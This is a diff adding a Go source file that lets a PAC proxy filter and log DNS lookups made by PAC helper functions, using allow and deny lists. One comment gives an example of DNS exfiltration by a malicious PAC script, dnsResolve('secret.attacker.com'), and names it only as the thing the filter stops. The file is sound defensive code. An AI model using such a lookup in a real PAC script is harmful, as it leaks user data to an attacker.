@@ -0,0 +1,51 @@
+package pac
+
+import (
+	"context"
+	"errors"
+	"net"
+	"net/url"
+)
+
+// errDNSLookupDenied makes the PAC helpers report a filtered host as not
+// resolvable.
+var errDNSLookupDenied = errors.New("DNS lookup rejected by DNSFilter")
+
+// DNSFilter decides whether the PAC helpers (dnsResolve, isResolvable,
+// isInNet, ...) may resolve host. Rejected lookups are logged and behave
+// like hosts that do not resolve, which stops a malicious PAC from
+// exfiltrating data via lookups such as dnsResolve("secret.attacker.com").
+// IP literals are not filtered since they need no lookup.
+type DNSFilter func(host string) bool
+
+// AllowDNS returns a DNSFilter that only allows hosts matching list, written
+// in the ParseBypassList syntax, e.g. ".corp.example.com, <local>".
+func AllowDNS(list string) DNSFilter {
+	allowed := ParseBypassList(list)
+	return func(host string) bool {
+		return allowed.Match(&url.URL{Host: host})
+	}
+}
+
+// DenyDNS returns a DNSFilter that rejects hosts matching list, written in
+// the ParseBypassList syntax.
+func DenyDNS(list string) DNSFilter {
+	denied := ParseBypassList(list)
+	return func(host string) bool {
+		return !denied.Match(&url.URL{Host: host})
+	}
+}
+
+// allowDNSLookup records a helper lookup for AuditDNS and applies the
+// configured DNSFilter to it.
+func (p *PACProxy) allowDNSLookup(ctx context.Context, host string) bool {
+	if net.ParseIP(host) != nil {
+		return true
+	}
+	recordDNSQuery(ctx, host)
+	if p.dnsFilter == nil || p.dnsFilter(host) {
+		return true
+	}
+	p.logf(ctx, LogWarn, "DNS lookup rejected by filter", "host", host)
+	return false
+}